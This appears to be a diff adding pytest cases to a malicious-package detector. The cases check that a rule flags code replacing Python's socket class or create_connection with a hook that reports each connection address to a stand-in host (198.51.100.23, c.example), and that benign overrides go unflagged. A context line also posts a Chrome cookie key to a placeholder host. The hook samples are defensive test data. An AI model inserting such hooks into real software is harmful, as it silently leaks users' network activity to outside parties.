@@ -563,3 +563,58 @@ def test_chromes_cookie_database_and_key_read_and_posted_are_a_stealer() -> None
     requests.post("https://k.recall14.example/", json={"k": key, "r": str(rows)})
     """
     assert "CPL-THR-005" in danger(source)
+
+
+#: blind15 (tune b15-re-socket-connect-hook; ReversingLabs on dbgpkg, 2025): the standard
+#: library's network classes replaced by a class of this file whose methods send what
+#: they see to a fixed host: every connection the program makes is reported.
+SOCKET_HOOKS = [
+    "import socket\n"
+    "_Base = socket.socket\n"
+    "_SINK = ('198.51.100.23', 5353)\n"
+    "class _Watch(_Base):\n"
+    "    def connect(self, address):\n"
+    "        probe = _Base(socket.AF_INET, socket.SOCK_DGRAM)\n"
+    "        probe.sendto(repr(address).encode(), _SINK)\n"
+    "        return super().connect(address)\n"
+    "socket.socket = _Watch\n",
+    "import socket, urllib.request\n"
+    "_orig = socket.create_connection\n"
+    "def _hook(address, *a, **k):\n"
+    "    urllib.request.urlopen('https://c.example/a?d=' + str(address))\n"
+    "    return _orig(address, *a, **k)\n"
+    "socket.create_connection = _hook\n",
+]
+
+
+@pytest.mark.parametrize("source", SOCKET_HOOKS)
+def test_a_network_class_or_function_of_the_stdlib_replaced_by_a_reporter_is_a_threat(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
+) -> None:
+    assert "CPL-THR-025" in danger(source)
+    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-025")
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # gevent/eventlet: a cooperative socket class in place of the standard one
+        "import socket\n"
+        "class GreenSocket(socket.socket):\n"
+        "    def connect(self, address):\n"
+        "        self.setblocking(False)\n"
+        "        return super().connect(address)\n"
+        "    def sendto(self, data, address):\n"
+        "        return super().sendto(data, address)\n"
+        "socket.socket = GreenSocket\n",
+        # a test double for the resolver, in a package's helper (not a test file)
+        "import socket\n"
+        "def fake_getaddrinfo(host, port, *a, **k):\n"
+        "    return [(socket.AF_INET, socket.SOCK_STREAM, 6, '', ('127.0.0.1', port))]\n"
+        "socket.getaddrinfo = fake_getaddrinfo\n",
+    ],
+)
+def test_a_stdlib_network_class_replaced_by_one_that_reports_nothing_is_not_a_threat(
+    source: str,
+) -> None:
+    assert "CPL-THR-025" not in danger(source)
